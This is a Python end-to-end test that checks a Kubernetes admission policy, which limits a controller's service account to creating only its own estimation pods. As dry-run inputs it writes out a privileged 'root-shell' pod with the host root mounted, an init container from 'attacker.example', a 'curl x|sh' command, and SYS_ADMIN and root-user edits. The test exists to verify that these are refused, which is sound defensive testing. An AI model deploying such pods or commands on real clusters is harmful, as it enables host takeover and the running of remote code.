"""Least privilege for the controller on the real control plane: with the chart's
ValidatingAdmissionPolicy on pods in force, a real estimation runs (the controller's own pod is
admitted, the Job released), while every other pod the controller's service account tries to
create (impersonated, as a stolen token would be used) is refused by the API server with the
rule it breaks: a privileged pod, and the real estimation pod changed in one way each."""

from __future__ import annotations

import copy
import json
from typing import Any, Dict, Iterator, List

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from localkube.cluster import CONTROLLER_SA, NAMESPACE, PROBE_IMAGE, render_chart
from localkube.controlplane import wait_for
from tests.e2e_real.support import job

CONTROLLER = {"Impersonate-User": f"system:serviceaccount:{NAMESPACE}:{CONTROLLER_SA}"}
POLICY_KINDS = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
NAME = "xmem-xmem-admission-estimation-pods"


def _pod_policy(values: Dict[str, Any]) -> List[Dict[str, Any]]:
    """The chart's policy and binding on pods, for the tests' probe image (its tag: test)."""
    tag = PROBE_IMAGE.rsplit(":", 1)[1]
    return [o for o in render_chart({"image": {"tag": tag}, **values})
            if o["kind"] in POLICY_KINDS and o["metadata"]["name"] == NAME]


@pytest.fixture()
def pod_policy(cluster: Any) -> Iterator[Any]:
    def apply(values: Dict[str, Any]) -> None:
        for obj in _pod_policy(values):
            cluster.apply(obj)

    apply({})
    try:
        yield apply
    finally:
        for kind in reversed(POLICY_KINDS):
            cluster.delete("admissionregistration.k8s.io/v1", kind, NAME)


def _as_controller(cluster: Any, pod: Dict[str, Any]) -> str:
    """Create the pod as the controller's service account (dry run: nothing is left behind);
    '' when admitted, else the API server's refusal."""
    core = client.CoreV1Api(cluster.api)
    try:
        core.create_namespaced_pod(pod["metadata"]["namespace"], pod, dry_run="All",
                                   _headers=CONTROLLER)
    except ApiException as exc:
        assert exc.status in (403, 422), exc.body
        return str(json.loads(exc.body)["message"])
    return ""


def _privileged(namespace: str) -> Dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "root-shell", "namespace": namespace},
            "spec": {"hostPID": True, "containers": [{
                "name": "shell", "image": "busybox", "command": ["sh", "-c", "sleep 3600"],
                "securityContext": {"privileged": True}}],
                "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}


def _resubmittable(pod: Dict[str, Any]) -> Dict[str, Any]:
    """The pod as the controller sent it: without what the API server and scheduler added."""
    out = copy.deepcopy(pod)
    out.pop("status", None)
    meta = out["metadata"]
    for key in ("uid", "resourceVersion", "creationTimestamp", "managedFields", "generation",
                "deletionTimestamp", "deletionGracePeriodSeconds", "finalizers"):
        meta.pop(key, None)
    meta["name"] = meta["name"][:-8] + "0badc0de"
    for key in ("nodeName", "priority"):
        out["spec"].pop(key, None)
    return out


def test_the_controller_may_create_only_estimation_pods_in_served_namespaces(xmem, pod_policy):
    cluster, ns = xmem.cluster, xmem.namespace
    refused = wait_for(lambda: _as_controller(cluster, _privileged(ns)) or None, 30,
                       "the API server to enforce the policy on pods")
    assert f"ValidatingAdmissionPolicy '{NAME}'" in refused, refused
    assert "the xmem controller creates only estimation pods" in refused, refused
    # The API server type-checked every expression against the Pod schema without a warning.
    status = wait_for(lambda: (cluster.get("admissionregistration.k8s.io/v1",
                                           "ValidatingAdmissionPolicy", NAME) or {}).get("status"),
                      30, "the policy's type check")
    assert not (status.get("typeChecking") or {}).get("expressionWarnings"), status

    # A real estimation with the policy in force: the controller's pod is admitted and runs.
    recorder = xmem.record_estimation_pods()
    xmem.serve()
    xmem.controller()
    cluster.apply(job("train", ns))
    xmem.wait_released("train")
    [gme] = xmem.gmes()
    assert gme["status"]["phase"] == "Succeeded", gme["status"]
    [real] = [p for p in recorder.seen() if p["metadata"]["name"] == gme["status"]["podName"]]
    recorder.stop()
    estimation = _resubmittable(real)
    assert _as_controller(cluster, estimation) == ""  # the same pod again is admitted

    def changed(edit: Any) -> str:
        pod = copy.deepcopy(estimation)
        edit(pod)
        return _as_controller(cluster, pod)

    main = lambda p: p["spec"]["containers"][0]  # noqa: E731
    cases = {
        "only estimation pods": [
            lambda p: p["metadata"]["labels"].pop("app.kubernetes.io/component"),
            lambda p: p["metadata"].pop("ownerReferences"),
            lambda p: p["metadata"].update(name="innocent-looking"),
        ],
        "no host network, PID or IPC namespace": [
            lambda p: p["spec"].update(hostNetwork=True),
            lambda p: p["spec"]["volumes"].append({"name": "h", "hostPath": {"path": "/etc"}}),
            lambda p: p["spec"].update(automountServiceAccountToken=True),
            lambda p: p["spec"]["volumes"].append({"name": "t", "projected": {"sources": [
                {"serviceAccountToken": {"path": "token"}}]}}),
            lambda p: p["spec"].update(nodeName="xmem-process-node"),
        ],
        "Pod Security restricted": [
            lambda p: main(p)["securityContext"].update(privileged=True,
                                                        allowPrivilegeEscalation=True),
            lambda p: main(p)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
            lambda p: main(p)["securityContext"].update(runAsUser=0),
        ],
        "CPU and memory only": [
            lambda p: main(p)["resources"]["limits"].update({"nvidia.com/gpu": "1"}),
        ],
        "one program under the probe": [
            lambda p: main(p).update(env=[e for e in main(p)["env"]
                                          if e["name"] != "XMEM_PROBE"]),
            lambda p: p["spec"]["initContainers"][0].update(image="attacker.example/tool:1"),
            lambda p: p["spec"]["initContainers"][0].update(command=["sh", "-c", "curl x|sh"]),
            lambda p: p["spec"]["initContainers"].append(dict(
                p["spec"]["initContainers"][0], name="extra")),
        ],
    }
    for rule, edits in cases.items():
        for index, edit in enumerate(edits):
            message = changed(edit)
            assert rule in message, (rule, index, message)

    # Not in the namespaces the webhook never serves (its RBAC would allow kube-system).
    elsewhere = copy.deepcopy(estimation)
    elsewhere["metadata"]["namespace"] = "kube-system"
    assert "creates no pod in the namespaces the webhook excludes" in \
        _as_controller(cluster, elsewhere)
    # Nobody else is matched: the tests' admin creates the privileged pod (dry run).
    client.CoreV1Api(cluster.api).create_namespaced_pod(ns, _privileged(ns), dry_run="All")

    # controller.estimationPods.namespaces=OptedIn: only namespaces labelled for xmem.
    plain = f"{ns}-plain"
    cluster.ensure_namespace(plain)
    try:
        pod_policy({"controller": {"estimationPods": {"namespaces": "OptedIn"}}})
        outside = copy.deepcopy(estimation)
        outside["metadata"]["namespace"] = plain
        wait_for(lambda: "only in namespaces labelled xmem.io/estimate=true" in
                 _as_controller(cluster, outside), 30, "the OptedIn rule to be enforced")
        assert _as_controller(cluster, estimation) == ""  # the opted-in namespace still works
    finally:
        cluster.delete("v1", "Namespace", plain)
